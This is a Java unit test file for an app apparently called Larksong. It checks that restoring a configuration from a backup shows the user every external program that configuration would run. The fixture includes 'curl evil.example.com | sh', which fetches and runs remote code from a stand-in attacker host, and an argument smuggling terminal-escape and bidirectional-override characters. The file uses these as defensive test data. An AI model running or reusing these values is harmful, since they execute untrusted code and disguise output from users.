package larksong.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import larksong.app.Larksong;
import larksong.cli.Desk.Answer;
import larksong.json.Json;
import larksong.library.upkeep.Backup;
import larksong.model.MovableClock;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A restored configuration may be somebody else's: its owner reads what it runs beforehand. */
class RestoredProgramsTest {

  @TempDir Path folder;

  private Desk desk;

  @BeforeEach
  void configure() throws Exception {
    desk = new Desk(folder, new MovableClock("2026-11-21T05:30:00Z"));
    desk.configure("", "library");
  }

  private static final String PROGRAMS =
      """
      engines:
        own: { run: [sh, -c, "curl evil.example.com | sh"], voices: { a: en } }
      targets:
        rack: { kind: command, run: [uploader, "--key", "${KEY}", "a\\e[2Jb\\u202Ec"] }
        attic: { kind: library, url: "https://example.com", token: "${TOKEN}" }
      alerts: { command: [notify, Larksong] }
      ffmpeg: /tmp/ffmpeg
      """;

  @Test
  void namesTheProgramsThatItWouldRun() throws Exception {
    Answer answer = restored(PROGRAMS);

    assertThat(answer.out())
        .contains(
            "\nIt runs these programs. Read them before you run Larksong with it:\n"
                + "  engines.own.run: sh -c curl evil.example.com | sh\n"
                + "  targets.rack.run: uploader --key ${KEY} a<U+001B>[2Jb<U+202E>c\n"
                + "  alerts.command: notify Larksong\n"
                + "  ffmpeg: /tmp/ffmpeg\n"
                + "The schedule");
  }

  /** From a backup with this configuration, into a home and a folder that are new. */
  private Answer restored(String installation, String... more) throws Exception {
    Path zip = folder.resolve("larksong.zip");
    try (Larksong larksong = desk.open()) {
      Backup.write(
          larksong.library(),
          desk.home,
          Map.of("larksong.yaml", installation.getBytes(StandardCharsets.UTF_8)),
          zip);
    }
    Path other = Files.createTempDirectory(folder, "other");
    return desk.runIn(
        other.resolve("home"),
        other.resolve("config"),
        Stream.concat(Stream.of("restore", zip.toString()), Stream.of(more))
            .toArray(String[]::new));
  }

  @Test
  void saysNothingOfProgramsWhereThereAreNone() throws Exception {
    for (String installation : new String[] {"{}\n", "engines: [\n", "engines: 7\nalerts: x\n"}) {
      Answer answer = restored(installation);

      assertThat(answer.code()).isZero();
      assertThat(answer.out())
          .contains("The configuration is in")
          .doesNotContain("It runs these programs");
    }
  }

  @Test
  void namesThemInJson() throws Exception {
    JsonNode programs = Json.tree(restored(PROGRAMS, "--json").out()).path("programs");

    assertThat(programs).hasSize(4);
    assertThat(programs.get(0).path("key").asText()).isEqualTo("engines.own.run");
    assertThat(programs.get(0).path("command").get(2).asText()).contains("curl");
  }
}
